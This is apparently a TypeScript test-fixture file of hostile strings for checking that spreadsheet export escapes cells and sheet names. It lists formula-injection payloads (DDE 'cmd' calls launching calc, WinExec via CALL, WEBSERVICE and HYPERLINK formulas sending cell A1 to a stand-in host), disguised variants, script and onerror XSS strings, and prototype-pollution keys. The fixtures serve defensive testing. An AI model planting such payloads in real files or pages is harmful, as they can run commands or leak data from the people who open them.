/** Texts that would run, reach out of the workbook or break something, were they taken for more than texts. */

const ELSEWHERE = "https://elsewhere.example/";

/** What Excel could take for a formula. */
const FORMULAS = [
  "=1+1",
  "+1+1",
  "-2+3",
  "@SUM(1+1)",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=MSEXCEL|'\\..\\..\\calc.exe'!''",
  `=HYPERLINK("${ELSEWHERE}?"&A1,"Click")`,
  `=WEBSERVICE("${ELSEWHERE}"&A1)`,
  `=IMAGE("${ELSEWHERE}a.png")`,
  '=CALL("kernel32","WinExec","JCJ","calc",0)',
  '=RTD("server.id",,"topic")',
  "='\\\\elsewhere.example\\share\\[Other.xlsx]Sheet1'!A1",
  `=INDIRECT("'[Other.xlsx]Sheet1'!A1")`,
  "{=1+1}",
];

/** The same behind something that is easily overlooked, or in other letters. */
const DISGUISED = [
  ...[" =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1"],
  ...["＝1+1", "＋1+1", "－2+3", "＠SUM(1+1)"],
  ...["'=1+1", "''=1+1", '"=1+1', '";=1+1', '",A1)&WEBSERVICE("', "'!A1&WEBSERVICE(\"x\")&'", "%0A=1+1", "first\n=1+1"],
];

/** What a page, a file, a footer or an object of JavaScript could take for more. */
const OTHERS = [
  "<script>window.ran = 1</script>",
  "<img src=x onerror=window.ran=1>",
  "]]></t><f>1+1</f>",
  "&D &F &[File]",
  "_x003D_1+1",
  "$& $1 ${1+1} {{1+1}}",
  ...["__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty"],
];

/** More than a cell of text format shows: such a text is written in another way. */
const MORE = ` ${"and what else there is to say of it ".repeat(9)}`;

export const PAYLOADS: readonly string[] = [
  ...FORMULAS,
  ...DISGUISED,
  ...OTHERS,
  ...[...FORMULAS, ...DISGUISED].map((text) => text + MORE),
];

/** Those that Excel takes as the name of a sheet. */
export const SHEET_NAMES: readonly string[] = [
  "=1+1",
  "-2+3",
  "@SUM(1+1)",
  "=cmd|' C calc'!A0",
  'O\'Brien"s, "the" R&D',
  "Plan!A1&WEBSERVICE(1)",
  '",A1)&WEBSERVICE("',
  "<b>&amp;<b>",
  "__proto__",
];
